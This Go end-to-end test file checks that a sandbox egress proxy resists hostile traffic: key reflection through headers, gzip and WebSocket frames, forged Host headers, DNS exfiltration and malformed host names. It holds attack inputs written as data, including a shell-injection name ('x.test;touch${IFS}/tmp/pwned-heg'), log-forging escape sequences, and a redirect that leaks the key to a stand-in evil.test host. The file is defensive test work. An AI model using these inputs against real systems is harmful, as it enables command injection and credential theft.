package e2e

import (
	"bufio"
	"compress/gzip"
	"crypto/sha1"
	"crypto/tls"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/paddockhq/paddock/internal/egress"
)

// The egress proxy's traffic is hostile input (issue 14, items 4 and 6-9): a process inside
// speaks to the proxy as an attacker would (internal/e2e/testdata/egressprobe, a static binary
// put in the workspace, so the same probe runs on both backends), against API stand-ins on
// 127.0.0.1 that reflect everything they are sent.

// hegSeen is what the stand-in received with one request.
type hegSeen struct{ Host, APIKey, Auth, Other, Query string }

type hegWorld struct {
	mu   sync.Mutex
	seen []hegSeen
	port int
}

func (w *hegWorld) requests() []hegSeen {
	w.mu.Lock()
	defer w.mu.Unlock()
	return append([]hegSeen{}, w.seen...)
}

// startHegWorld serves, over TLS with certificates of the installation's CA (which the proxy
// trusts upstream through PADDOCK_EGRESS_CA_FILE), api.anthropic.com:443 and gw.test:8443: each
// request's key is reflected in a header, a Location, the body, a gzip body and a WebSocket frame.
func startHegWorld(t *testing.T, e *env) *hegWorld {
	t.Helper()
	w := &hegWorld{}
	e.mkdir(e.phome)
	ca, err := egress.LoadOrCreateCA(e.phome)
	if err != nil {
		t.Fatal(err)
	}
	filepath.Walk(filepath.Join(e.phome, "egress"), func(p string, _ os.FileInfo, _ error) error { return os.Chown(p, e.uid, e.gid) })
	h := http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		key := r.Header.Get("x-api-key")
		if a := r.Header.Get("Authorization"); strings.HasPrefix(a, "Bearer ") && !strings.Contains(a, "placeholder") {
			key = strings.TrimPrefix(a, "Bearer ")
		}
		w.mu.Lock()
		w.seen = append(w.seen, hegSeen{Host: r.Host, APIKey: r.Header.Get("x-api-key"), Auth: r.Header.Get("Authorization"),
			Other: r.Header.Get("X-Other"), Query: r.URL.Query().Get("key")})
		w.mu.Unlock()
		switch {
		case strings.HasSuffix(r.URL.Path, "/ws"):
			hj, _ := rw.(http.Hijacker)
			c, brw, err := hj.Hijack()
			if err != nil {
				return
			}
			defer c.Close()
			sum := sha1.Sum([]byte(r.Header.Get("Sec-WebSocket-Key") + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"))
			ext := ""
			if r.Header.Get("Sec-WebSocket-Extensions") != "" {
				ext = "Sec-WebSocket-Extensions: permessage-deflate\r\n"
			}
			fmt.Fprintf(brw, "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: %s\r\n%s\r\n",
				base64.StdEncoding.EncodeToString(sum[:]), ext)
			// A JSON-like frame (its end cannot begin a key: the proxy holds nothing back), and
			// the connection stays until the client is done.
			msg := `{"echo":"your key is ` + key + `"}`
			brw.Write(append([]byte{0x81, byte(len(msg))}, msg...))
			brw.Flush()
			c.SetReadDeadline(time.Now().Add(10 * time.Second))
			brw.Read(make([]byte, 1))
		case strings.HasSuffix(r.URL.Path, "/gzip"):
			rw.Header().Set("Content-Encoding", "gzip")
			gz := gzip.NewWriter(rw)
			fmt.Fprintf(gz, "gzipped: your key is %s", key)
			gz.Close()
		default:
			rw.Header().Set("X-Echo-Key", key)
			rw.Header().Set("Location", "https://evil.test/cb?k="+key)
			rw.Header().Set("Trailer", "X-Trailer-Key")
			rw.WriteHeader(http.StatusFound)
			fmt.Fprintf(rw, "host=%s key=%s auth=%s other=%s query=%s\n", r.Host, key, r.Header.Get("Authorization"), r.Header.Get("X-Other"), r.URL.RawQuery)
			rw.Header().Set("X-Trailer-Key", key)
		}
	})
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: h, TLSConfig: &tls.Config{GetCertificate: func(h *tls.ClientHelloInfo) (*tls.Certificate, error) {
		return ca.Leaf(h.ServerName)
	}}}
	go srv.ServeTLS(ln, "", "")
	t.Cleanup(func() { srv.Close() })
	w.port = ln.Addr().(*net.TCPAddr).Port
	hf := filepath.Join(e.dir, "heg-hosts")
	e.writeFile(hf, fmt.Sprintf("api.anthropic.com:443 127.0.0.1:%d\ngw.test:8443 127.0.0.1:%d\n", w.port, w.port))
	e.extra = append(e.extra, egress.HostsEnv+"="+hf, egress.CAFileEnv+"="+egress.CACertPath(e.phome))
	return w
}

var hegProbeBin = sync.OnceValues(func() (string, error) {
	out := filepath.Join(baseDir, "egressprobe")
	cmd := exec.Command("go", "build", "-trimpath", "-o", out, "./testdata/egressprobe")
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
	if b, err := cmd.CombinedOutput(); err != nil {
		return "", fmt.Errorf("building the probe: %v: %s", err, b)
	}
	return out, nil
})

// hegInstall puts the probe into the workspace (seen at the same path inside, on both backends).
func hegInstall(t *testing.T, e *env, ws string) string {
	t.Helper()
	bin, err := hegProbeBin()
	if err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(bin)
	if err != nil {
		t.Fatal(err)
	}
	dst := filepath.Join(ws, "egressprobe")
	if err := os.WriteFile(dst, b, 0o755); err != nil {
		t.Fatal(err)
	}
	os.Chown(dst, e.uid, e.gid)
	return dst
}

// hegLines reads the probe's "name: value" lines (values unquoted).
func hegLines(out string) map[string]string {
	m := map[string]string{}
	sc := bufio.NewScanner(strings.NewReader(out))
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		k, v, ok := strings.Cut(sc.Text(), ": ")
		if !ok {
			continue
		}
		if u, err := strconv.Unquote(v); err == nil {
			v = u
		}
		m[k] = v
	}
	return m
}

// hegRSS is a host process's peak resident memory (VmHWM), in bytes.
func hegRSS(pid int) int64 {
	b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	for _, l := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(l, "VmHWM:"); ok {
			n, _ := strconv.ParseInt(strings.TrimSuffix(strings.TrimSpace(v), " kB"), 10, 64)
			return n << 10
		}
	}
	return 0
}

// hegHostLimit is what no sandbox may make the proxy's host process hold (docs/security.md, "Security
// model"): its peak resident memory, with the header and connection probes run.
const hegHostLimit = 160 << 20

// hegMaxConns is egress.MaxConns, spelled out so that this file also builds against a proxy
// without the bound (to see the probes fail there).
const hegMaxConns = 256

// hostileEgress runs the probes in the running sandbox name (workspace ws); hostPid finds the
// host process that serves its proxy (0: not measurable, as with an engine elsewhere).
func hostileEgress(t *testing.T, e *env, w *hegWorld, ws, name string, hostPid func() int) {
	probe := hegInstall(t, e, ws)
	key := "sk-ant-e2e-REAL-" + strconv.FormatInt(time.Now().UnixNano(), 36)
	if r := e.runInput("", key+"\n", "secret", "set", "anthropic"); r.code != 0 {
		t.Fatalf("secret set: %s", r)
	}
	okey := "sk-oai-e2e-REAL-" + strconv.FormatInt(time.Now().UnixNano(), 36)
	if r := e.runInput("", okey+"\n", "secret", "set", "openai", "--endpoint", "https://gw.test:8443/v1"); r.code != 0 {
		t.Fatalf("secret set openai: %s", r)
	}
	run := func(script string) (result, map[string]string) {
		t.Helper()
		r := e.sh(name, script)
		return r, hegLines(r.stdout)
	}
	noKey := func(t *testing.T, what string, r result) {
		t.Helper()
		for _, k := range []string{key, okey, base64.StdEncoding.EncodeToString([]byte(key))} {
			if strings.Contains(r.stdout+r.stderr, k) {
				t.Errorf("%s: the real key came back into the sandbox: %s", what, r)
			}
		}
	}

	t.Run("6-reflected-key", func(t *testing.T) {
		before := len(w.requests())
		r, m := run(probe + " get https://api.anthropic.com/v1/echo")
		resp := m["response"]
		if !strings.Contains(resp, "302 Found") || !strings.Contains(resp, "host=api.anthropic.com") {
			t.Fatalf("echo request: %s", r)
		}
		noKey(t, "headers, Location, body, trailer", r)
		reqs := w.requests()[before:]
		if len(reqs) != 1 {
			t.Fatalf("the stand-in got %d requests", len(reqs))
		}
		// The key went where the service reads it (x-api-key, and Authorization: Bearer as
		// Claude Code also sends it), and nowhere else.
		ph := egress.Placeholder("anthropic")
		if s := reqs[0]; s.APIKey != key || s.Other != ph || s.Query != ph || s.Auth != "Bearer "+key {
			t.Errorf("the stand-in saw %+v; want the key in the auth headers only", s)
		}
		r, m = run(probe + " get https://api.anthropic.com/v1/gzip")
		if !strings.Contains(m["response"], "gzipped: your key is paddock-placeholder") {
			t.Errorf("gzip answer: %s", r)
		}
		noKey(t, "a gzip body", r)
		r, m = run(probe + " ws https://api.anthropic.com/v1/ws")
		if m["ws-status"] != "101" || m["ws-extensions"] != "" || !strings.HasPrefix(m["ws-frame"], `{"echo":"your key is paddock-placeholder`) {
			t.Errorf("WebSocket: %s", r)
		}
		noKey(t, "a WebSocket frame", r)
	})

	t.Run("7-host-fronting", func(t *testing.T) {
		before := len(w.requests())
		// An endpoint on a port other than 443, and the default port, with a forged Host; the
		// sandbox offers HTTP/2 and must get HTTP/1.1 (so each request's Host is checked).
		for _, c := range [][2]string{{"https://gw.test:8443/v1/x", "evil.test"}, {"https://gw.test:8443/v1/x", "evil.test:8443"},
			{"https://gw.test:8443/v1/x", "gw.test:9999"}, {"https://api.anthropic.com/v1/x", "evil.test"}} {
			ph := "paddock-placeholder-anthropic"
			if strings.Contains(c[0], "gw.test") {
				ph = "paddock-placeholder-openai"
			}
			r, m := run("PH=" + ph + " " + probe + " get " + c[0] + " " + c[1])
			if !strings.Contains(m["response"], "421 Misdirected Request") || m["alpn"] != "http/1.1" {
				t.Errorf("Host %s on a connection to %s: %s", c[1], c[0], r)
			}
			noKey(t, "a fronted request", r)
		}
		for _, s := range w.requests()[before:] {
			t.Errorf("a fronted request reached the service: %+v", s)
		}
		// The endpoint's own requests still get the key.
		r, m := run("PH=paddock-placeholder-openai " + probe + " get https://gw.test:8443/v1/x")
		reqs := w.requests()[before:]
		if !strings.Contains(m["response"], "302 Found") || len(reqs) != 1 || reqs[0].Auth != "Bearer "+okey || reqs[0].Host != "gw.test:8443" {
			t.Errorf("the endpoint's own request: %s %+v", r, reqs)
		}
		noKey(t, "the endpoint's answer", r)
	})

	t.Run("8-dns", func(t *testing.T) {
		e.ok("", "policy", "allow", "10.0.0.0/8", "--sandbox", name)
		leak := "c2vjcmv0-" + strconv.FormatInt(time.Now().UnixNano(), 36) + ".exfil.invalid"
		if _, m := run(probe + " socks " + leak + " 5432"); m["socks-reply"] != "2" {
			t.Errorf("a name no rule allows: SOCKS5 reply %q, want 2 (refused)", m["socks-reply"])
		}
		// A name a rule allows is looked up, and the lookup is logged.
		port := strconv.Itoa(w.port)
		e.ok("", "policy", "allow", "localhost:"+port, "127.0.0.0/8:"+port, "--sandbox", name)
		if _, m := run(probe + " socks localhost " + port); m["socks-reply"] != "0" {
			t.Errorf("localhost:%s allowed: SOCKS5 reply %q", port, m["socks-reply"])
		}
		type logRec struct {
			Host, Reason string
			DNS          bool
			Resolved     []string
		}
		var leakRec, localRec *logRec
		for i := 0; i < 50 && (leakRec == nil || localRec == nil); i++ {
			for _, l := range strings.Split(e.ok("", "policy", "log", name, "--json"), "\n") {
				var rec logRec
				if json.Unmarshal([]byte(l), &rec) != nil {
					continue
				}
				switch rec.Host {
				case leak:
					leakRec = &rec
				case "localhost":
					localRec = &rec
				}
			}
			time.Sleep(100 * time.Millisecond)
		}
		if leakRec == nil || leakRec.DNS || !strings.HasPrefix(leakRec.Reason, "no rule allows") {
			t.Errorf("the name no rule allows was looked up (a DNS query carries it out): %+v", leakRec)
		}
		if localRec == nil || !localRec.DNS || !strings.Contains(strings.Join(localRec.Resolved, " "), "127.0.0.1") {
			t.Errorf("the allowed name's lookup is not logged: %+v", localRec)
		}
	})

	t.Run("9-names", func(t *testing.T) {
		forged := `"x.test\n2026-01-01 00:00:00  ` + name + `  socks5  forged.test  443  allow\x1b]0;pwned\x07"`
		r, m := run(probe + " socks '" + forged + "' 443")
		if m["socks-reply"] != "1" {
			t.Errorf("a name with a newline and escapes: %s", r)
		}
		inject := `x.test;touch${IFS}/tmp/pwned-heg`
		r, _ = run(probe + " socks '" + inject + "' 443; sleep 0.5")
		if strings.Contains(r.stderr, "allow x.test;touch") {
			t.Errorf("the hint is a runnable command: %s", r)
		}
		log := e.ok("", "policy", "log", name)
		for _, l := range strings.Split(log, "\n") {
			if strings.HasPrefix(l, "2026-01-01") || strings.Contains(l, "\x1b") || strings.Contains(l, "\x07") {
				t.Errorf("policy log has a forged line or a terminal sequence: %q", l)
			}
		}
		if !strings.Contains(log, "not a valid host name") {
			t.Errorf("policy log does not show the refused names: %s", log)
		}
		if r := e.run("", "policy", "check", name, inject); r.code == 0 || strings.Contains(r.stderr, "to allow it") {
			t.Errorf("policy check with a name that is not one: %s", r)
		}
		// A Unicode name is judged (and shown) in its IDNA form.
		if r := e.run("", "policy", "check", name, "bücher.example"); !strings.Contains(r.stdout, "xn--bcher-kva.example") {
			t.Errorf("policy check with an IDN: %s", r)
		}
	})

	t.Run("4-bounds", func(t *testing.T) {
		r, m := run(probe + " header 67108864")
		if m["status"] != "431" {
			t.Errorf("64 MiB of request header: %s", r)
		}
		r, m = run(probe + " conns 320")
		open, _ := strconv.Atoi(m["open"])
		closed, _ := strconv.Atoi(m["closed"])
		if open > hegMaxConns || closed < 320-hegMaxConns {
			t.Errorf("320 slow connections: %s", r)
		}
		if pid := hostPid(); pid > 0 {
			if hwm := hegRSS(pid); hwm > hegHostLimit {
				t.Errorf("the proxy's host process peaked at %d MiB (limit %d MiB)", hwm>>20, hegHostLimit>>20)
			} else {
				t.Logf("the proxy's host process peaked at %d MiB", hwm>>20)
			}
		}
	})
}

func TestHostileEgress(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		w := startHegWorld(t, e)
		ws := e.workspace("hegress")
		name := strings.TrimSpace(e.ok(ws, "run", "-d", "shell"))
		hostileEgress(t, e, w, ws, name, func() int { return procInspect(t, e, name).State.SupervisorPID })
		e.ok("", "rm", "-f", name)
	})
}

func TestHostileEgressDocker(t *testing.T) {
	engineWhere(t, func(t *testing.T, elsewhere bool) {
		e, _ := dockerEnv(t)
		if elsewhere {
			engineElsewhere(t, e)
		}
		w := startHegWorld(t, e)
		ws := e.workspace("hegress")
		name := strings.TrimSpace(e.ok(ws, "--backend", "docker", "run", "-d", "shell"))
		state := inspectOne(t, e, name).Paths["state"]
		hostileEgress(t, e, w, ws, name, func() int { return serverPid(state) })
		e.ok("", "rm", "-f", name)
	})
}
